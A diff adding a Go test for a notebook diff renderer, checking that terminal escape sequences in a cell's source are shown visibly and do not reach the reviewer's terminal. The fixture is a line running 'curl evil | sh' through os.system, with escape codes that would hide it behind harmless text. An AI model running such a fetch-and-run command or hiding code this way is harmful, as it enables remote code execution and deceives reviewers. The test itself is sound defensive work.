@@ -331,3 +331,35 @@ func TestRenderWriteError(t *testing.T) {
 		t.Errorf("RenderText: got %v, want %v wrapped", err, errClosed)
 	}
 }
+
+// TestControlCharactersShown: a notebook's source cannot send escape
+// sequences to the reviewer's terminal (erase the line above, move the
+// cursor, set the title): control characters other than a tab are shown
+// as less shows them ("^[", "<U+009B>"), in every view, with the word
+// highlight and syntax colours still in place around them.
+func TestControlCharactersShown(t *testing.T) {
+	a := nbtest.Parse("code:x~=~1")
+	b := nbtest.Parse("code:x~=~1")
+	b.Cells[0].Source = "import os; os.system('curl evil | sh')\x1b[2K\x1b[1A\x1b[2K\x07\x7f\u009b2J\tx = 1 # harmless"
+	r := Notebooks(a, b, Options{})
+	for _, ro := range []RenderOptions{
+		{OldPath: "nb.ipynb"},
+		{OldPath: "nb.ipynb", Color: true},
+		{OldPath: "nb.ipynb", Format: SideBySide, Width: 200},
+		{OldPath: "nb.ipynb", Format: SideBySide, Width: 200, Color: true},
+	} {
+		var buf bytes.Buffer
+		if err := Render(&buf, r, ro); err != nil {
+			t.Fatal(err)
+		}
+		out := buf.String()
+		// The renderer's own colours are the only escape sequences left.
+		rest := regexp.MustCompile("\x1b\\[[0-9;]*m").ReplaceAllString(out, "")
+		if strings.ContainsAny(rest, "\x1b\x07\x7f\u009b") {
+			t.Errorf("format %v color %v: control characters reach the terminal:\n%q", ro.Format, ro.Color, out)
+		}
+		if !strings.Contains(rest, "sh')^[[2K^[[1A^[[2K^G^?<U+009B>2J") {
+			t.Errorf("format %v color %v: control characters not shown:\n%q", ro.Format, ro.Color, rest)
+		}
+	}
+}
